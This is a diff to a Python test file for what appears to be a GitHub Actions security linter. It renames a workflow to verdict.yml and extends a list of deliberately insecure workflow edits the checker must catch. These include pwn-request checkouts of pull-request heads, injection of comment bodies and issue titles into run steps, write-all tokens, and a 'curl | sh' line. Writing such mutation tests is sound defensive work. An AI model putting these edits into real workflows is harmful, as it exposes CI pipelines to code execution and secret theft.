@@ -34,7 +34,7 @@ PERMISSIONS = {
     "ci.yml": {"changes": READ, "test": READ, "tutorials": READ, "ci": {}},
     "docs.yml": {"build": READ, "deploy": {"pages": "write", "id-token": "write"}},
     "health.yml": {"verify": READ, "tell": READ | {"issues": "write"}},
-    "pr-report.yml": {
+    "verdict.yml": {
         "parse": READ | {"pull-requests": "read", "issues": "read", "statuses": "read"},
         "report": READ | {"pull-requests": "write", "statuses": "write", "issues": "write"},
     },
@@ -50,7 +50,9 @@ EVENTS = {
     "ci.yml": {"push", "pull_request", "merge_group", "schedule"},
     "docs.yml": {"push", "workflow_dispatch"},
     "health.yml": {"schedule", "workflow_dispatch"},
-    "pr-report.yml": {"workflow_run", "push", "schedule", "workflow_dispatch"},
+    "verdict.yml": {
+        *("workflow_run", "issue_comment", "push", "schedule", "workflow_dispatch"),
+    },
     "pr-validate.yml": {"pull_request", "merge_group"},
     "publish.yml": {"push", "workflow_dispatch"},
 }
@@ -78,7 +80,7 @@ def test_each_workflow_starts_on_exactly_these_events():
 def test_the_privileged_ones_are_known():
     assert {workflow.name for workflow in SHIPPED if workflow.is_privileged} == {
         *("audit-open.yml", "audit.yml", "docs.yml", "health.yml"),
-        *("pr-report.yml", "publish.yml"),
+        *("verdict.yml", "publish.yml"),
     }
 
 
@@ -103,17 +105,28 @@ PIN, COMMIT, VERSION = pin_of("actions/checkout", "ci.yml")
 PYTHON_VERSION = pin_of("actions/setup-python", "check/action.yml")[2]
 # Rule, file, what stands there, and what an attacker or a hurried maintainer would write.
 MUTATIONS: list[tuple[Rule, str, str, str]] = [
-    (row_01_pwn_request, "pr-report.yml", "  workflow_run: #", "  pull_request_target: #"),
-    (row_01_pwn_request, "pr-report.yml", "  workflow_dispatch:", "  issue_comment:"),
+    (row_01_pwn_request, "verdict.yml", "  workflow_run: #", "  pull_request_target: #"),
     (
         row_01_pwn_request,
-        "pr-report.yml",
+        "verdict.yml",
+        "COMMENTED: ${{ github.event.issue.number }}",
+        "COMMENTED: ${{ github.event.comment.body }}",
+    ),
+    (
+        row_01_pwn_request,
+        "verdict.yml",
+        "name: read and judge",
+        "name: read ${{ github.event.issue.title }}",
+    ),
+    (
+        row_01_pwn_request,
+        "verdict.yml",
         CHECKOUT,
         f"{CHECKOUT}          ref: ${{{{ github.event.workflow_run.head_sha }}}}\n",
     ),
     (
         row_01_pwn_request,
-        "pr-report.yml",
+        "verdict.yml",
         CHECKOUT,
         f"{CHECKOUT}          repository: ${{{{ github.event.workflow_run.head_repository }}}}\n",
     ),
@@ -123,15 +136,15 @@ MUTATIONS: list[tuple[Rule, str, str, str]] = [
         CHECKOUT,
         f"{CHECKOUT}          allow-unsafe-pr-checkout: true\n",
     ),
-    (row_01_pwn_request, "pr-report.yml", INSTALL, "      - run: python3 -I -m pip install .\n"),
+    (row_01_pwn_request, "verdict.yml", INSTALL, "      - run: python3 -I -m pip install .\n"),
     (row_01_pwn_request, "publish.yml", INSTALL, "      - run: pip install --no-deps -e .[hub]\n"),
-    (row_01_pwn_request, "pr-report.yml", INSTALL, '      - run: git fetch origin "pull/1/head"\n'),
-    (row_01_pwn_request, "pr-report.yml", INSTALL, '      - run: gh pr checkout "$PR"\n'),
-    (row_01_pwn_request, "pr-report.yml", INSTALL, "      - uses: ./.github/actions/check\n"),
+    (row_01_pwn_request, "verdict.yml", INSTALL, '      - run: git fetch origin "pull/1/head"\n'),
+    (row_01_pwn_request, "verdict.yml", INSTALL, '      - run: gh pr checkout "$PR"\n'),
+    (row_01_pwn_request, "verdict.yml", INSTALL, "      - uses: ./.github/actions/check\n"),
     (row_01_pwn_request, "audit-open.yml", INSTALL, "      - uses: $/.github/actions/check\n"),
     (
         row_02_artifact_or_cache,
-        "pr-report.yml",
+        "verdict.yml",
         INSTALL,
         f"      - uses: actions/download-artifact@{'0' * 40} # v8.0.1\n",
     ),
@@ -155,7 +168,7 @@ MUTATIONS: list[tuple[Rule, str, str, str]] = [
     ),
     (
         row_03_injection,
-        "pr-report.yml",
+        "verdict.yml",
         "python3 -I -m geneb_ci reconcile",
         "echo ${{ github.event.workflow_run.head_branch }}",
     ),
@@ -178,7 +191,7 @@ MUTATIONS: list[tuple[Rule, str, str, str]] = [
     (row_03_injection, "ci.yml", ".ci/run", 'echo "::add-mask::0"'),
     (
         row_03_injection,
-        "pr-report.yml",
+        "verdict.yml",
         INSTALL,
         f"      - uses: actions/github-script@{'0' * 40} # v8.0.0\n",
     ),
@@ -188,23 +201,23 @@ MUTATIONS: list[tuple[Rule, str, str, str]] = [
     (row_04_forged_check, "publish.yml", "    needs: build\n", ""),
     (
         row_04_forged_check,
-        "pr-report.yml",
+        "verdict.yml",
         "      pull-requests: read #",
         "      checks: read # is the job green?\n      pull-requests: read #",
     ),
     (
         row_06_moved_head,
-        "pr-report.yml",
+        "verdict.yml",
         "github.event.workflow_run.head_sha",
         "github.event.workflow_run.pull_requests[0].head.sha",
     ),
     (
         row_06_moved_head,
-        "pr-report.yml",
+        "verdict.yml",
         "          VERDICT: ",
         "          TITLE: ${{ github.event.workflow_run.display_title }}\n          VERDICT: ",
     ),
-    (row_06_moved_head, "pr-report.yml", "geneb_ci report", "geneb_ci reconcile"),
+    (row_06_moved_head, "verdict.yml", "geneb_ci report", "geneb_ci reconcile"),
     (row_07_self_hosted, "audit-open.yml", "ubuntu-24.04", "self-hosted"),
     (row_07_self_hosted, "ci.yml", "ubuntu-24.04", "[self-hosted, gpu]"),
     (
@@ -232,7 +245,9 @@ MUTATIONS: list[tuple[Rule, str, str, str]] = [
     (row_24_hijack, "health.yml", INSTALL, "      - run: curl -sSf https://example.org | sh\n"),
     (row_25_lost_update, "publish.yml", "  queue: max\n", ""),
     (row_25_lost_update, "publish.yml", "in-progress: false", "in-progress: true"),
-    (row_25_lost_update, "pr-report.yml", "group: pr-report", "group: ${{ github.run_id }}"),
+    (row_25_lost_update, "verdict.yml", "group: verdict", "group: ${{ github.run_id }}"),
+    (row_25_lost_update, "verdict.yml", "!startsWith(", "startsWith("),
+    (row_06_moved_head, "verdict.yml", "github.event.issue.number", "github.event.issue.title"),
     (row_26_token, "publish.yml", "permissions: {}\n", "permissions: write-all\n"),
     (row_26_token, "ci.yml", "\npermissions: {}\n", "\n"),
     (row_26_token, "ci.yml", "    permissions:\n      contents: read # to check out\n", ""),
@@ -245,7 +260,7 @@ MUTATIONS: list[tuple[Rule, str, str, str]] = [
     (row_26_token, "publish.yml", "    environment: hf-publish\n", ""),
     (row_26_token, "health.yml", "${{ vars.HF_OIDC_RESOURCE }}", "${{ secrets.HF_TOKEN }}"),
     (row_26_token, "pr-validate.yml", "persist-credentials: false", "fetch-depth: 1"),
-    (row_26_token, "pr-report.yml", "python3 -I -m", "python3 -m"),
+    (row_26_token, "verdict.yml", "python3 -I -m", "python3 -m"),
 ]
 
 
